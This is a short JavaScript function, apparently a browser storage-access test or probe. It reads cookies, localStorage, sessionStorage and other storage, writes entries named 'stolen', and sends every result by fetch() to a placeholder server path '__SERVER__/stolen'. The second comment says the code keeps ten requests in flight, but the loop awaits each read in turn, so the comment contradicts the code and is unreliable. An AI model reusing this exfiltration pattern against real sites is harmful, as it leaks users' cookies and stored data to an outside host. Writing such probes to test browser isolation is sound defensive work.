// Reads cookies and storage, and writes some.
// says: Keeps 10 in flight: a window of 10.
async function attempt() {
  const reads = [
    () => cookieStore.set("stolen", "1"),
    () => cookieStore.getAll(),
    () => document.cookie,
    () => localStorage.getItem("history"),
    () => sessionStorage.getItem("history"),
    () => navigator.storage.getDirectory(),
    () => navigator.storageBuckets.open("stolen"),
  ];
  for (const read of reads) {
    try {
      const result = await Promise.race([read(), new Promise((end) => setTimeout(end, 100))]);
      fetch(`__SERVER__/stolen?cookie-store=${JSON.stringify(result)}`).catch(() => {});
    } catch {
      // refused
    }
  }
}
